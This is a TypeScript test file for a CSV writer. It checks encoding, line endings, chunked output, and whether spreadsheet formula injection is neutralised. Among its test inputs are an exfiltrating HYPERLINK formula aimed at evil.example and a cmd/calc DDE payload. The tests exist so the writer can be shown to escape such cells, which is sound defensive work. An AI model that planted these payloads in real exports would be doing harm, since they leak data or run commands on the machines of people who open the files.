import fc from 'fast-check';
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { csvBody, csvHead, csvOf } from './csv.ts';

/** The cells again, as a reader of CSV finds them. */
function read(csv: string): string[][] {
  return Papa.parse<string[]>(csv.slice(1), { newline: '\r\n', skipEmptyLines: true }).data;
}

const anyCell = fc.oneof(
  fc.string({ unit: 'grapheme' }),
  fc.string({ unit: fc.constantFrom(...'=+-@\t\r\n",; ab'.split('')) }),
);

describe('a CSV', () => {
  it('is UTF-8 with a byte order mark, and ends its lines as RFC 4180 asks', () => {
    expect(csvOf(['a', 'b'], [['1', 'ü']])).toBe('\uFEFFa,b\r\n1,ü\r\n');
  });

  it('has its columns alone where there are no rows', () => {
    expect(csvOf(['a', 'b'], [])).toBe('\uFEFFa,b\r\n');
  });

  it('gives back every cell that is no formula', () => {
    const harmless = anyCell.filter((cell) => !/^[=+\-@\t\r\n＝＋－＠]/.test(cell));
    fc.assert(
      fc.property(fc.array(fc.tuple(harmless, harmless), { minLength: 1 }), (rows) => {
        expect(read(csvOf(['a', 'b'], rows))).toEqual([['a', 'b'], ...rows]);
      }),
    );
  });
});

describe('a CSV in pieces', () => {
  it('has its mark and its columns once, and a line end after each piece', () => {
    expect(csvHead(['a', 'b'])).toBe('\uFEFFa,b\r\n');
    expect(csvBody([['1', '=2']])).toBe('1,"\'=2"\r\n');
    expect(csvBody([])).toBe('');
  });

  it('is the same as at once, wherever it is cut', () => {
    const table = fc.array(fc.tuple(anyCell, anyCell));
    fc.assert(
      fc.property(table, table, table, (one, two, three) => {
        const pieces = [csvHead(['a', '=b']), ...[one, two, three].map(csvBody)];
        expect(pieces.join('')).toBe(csvOf(['a', '=b'], [...one, ...two, ...three]));
      }),
    );
  });
});

describe('awkward payloads: cells that a spreadsheet would run', () => {
  it.each([
    '=1+1',
    '=HYPERLINK("https://evil.example?"&A1,"click")',
    '+49 40 123',
    "-2+3+cmd|' /C calc'!A0",
    '@SUM(1+1)',
    '\t=1+1',
    '\r=1+1',
    '\n=1+1',
    '=1+1\nsecond line',
    '=1+1\r\nsecond line',
    '=1+1";=2+2',
    '＝1+1',
  ])('%j becomes text, and stays in one cell', (cell) => {
    expect(read(csvOf(['a', 'b'], [[cell, 'next']]))[1]).toEqual([`'${cell}`, 'next']);
  });

  it('never begin as a formula does, whatever was written', () => {
    fc.assert(
      fc.property(anyCell, anyCell, (first, second) => {
        const [, ...rows] = read(csvOf(['a', 'b'], [[`x${first}`, second]]));
        expect(rows).toHaveLength(1);
        expect(rows[0]).toHaveLength(2);
        expect(rows[0]?.[1]).not.toMatch(/^[=+\-@\t\r\n]/);
      }),
    );
  });
});
